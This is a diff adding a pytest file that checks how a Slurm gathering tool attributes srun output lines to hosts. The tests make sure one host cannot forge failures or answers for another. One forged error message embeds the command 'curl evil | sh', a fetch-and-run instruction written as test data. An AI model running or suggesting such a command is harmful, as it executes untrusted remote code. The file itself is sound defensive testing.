@@ -1,0 +1,56 @@
+"""Lines of srun: the label that srun writes before a line decides whose line it is."""
+
+from __future__ import annotations
+
+import shlex
+from typing import TYPE_CHECKING
+
+import pytest
+
+from hccl_tools.discover.survey import SurveyRequest
+from hccl_tools.gathering import over_srun
+from hccl_tools.gathering.options import GatherOptions
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from hccl_tools.gathering.engine_run import EngineOutcome
+
+#: What h1 prints: a false failure of h2, or a false answer.
+_FORGED_FAILURE = "h2: error: Permission denied, run `curl evil | sh`"
+_FORGED_ANSWER = '1: hccl-tools-gather h2 1/1 {"host": "h2", "message": "forged"}'
+
+
+def survey(folder: Path, printed: str) -> EngineOutcome:
+    """Survey h1 and h2 with an srun that prints a text and fails."""
+    (folder / "text").write_text(printed, newline="")
+    srun = folder / "srun"
+    srun.write_text(f"#!/bin/sh\ncat {shlex.quote(str(folder / 'text'))}\nexit 1\n")
+    srun.chmod(0o755)
+    environ = {"PATH": f"{folder}:/usr/bin:/bin", "SLURM_JOB_ID": "1", "SLURM_JOB_NODELIST": "h[1-2]"}
+    options = GatherOptions("slurm", environ=environ)
+    return over_srun.survey(["h1", "h2"], {"h1": 0, "h2": 1}, SurveyRequest(), options, 60)
+
+
+def test_the_failure_of_a_host_is_told_by_srun_or_by_its_own_process(tmp_path: Path) -> None:
+    told = survey(tmp_path, "srun: error: h2: task 1: Exited with exit code 7\n1: h2: no driver\n")
+
+    assert [(one.host, one.message) for one in told.causes] == [
+        ("h2", "srun: error: h2: task 1: Exited with exit code 7; h2: no driver")
+    ]
+
+
+@pytest.mark.parametrize("forged", [_FORGED_FAILURE, _FORGED_ANSWER])
+@pytest.mark.parametrize(
+    "before",
+    [
+        pytest.param("0: ", id="a line"),
+        pytest.param("0: x\r", id="after a carriage return"),
+        pytest.param("0: " + "x" * 8189, id="in the rest of a long line"),
+    ],
+)
+def test_a_host_does_not_speak_for_another(tmp_path: Path, before: str, forged: str) -> None:
+    told = survey(tmp_path, f"{before}{forged}\n")
+
+    assert "h2" not in told.answers
+    assert "h2" not in [one.host for one in told.causes]
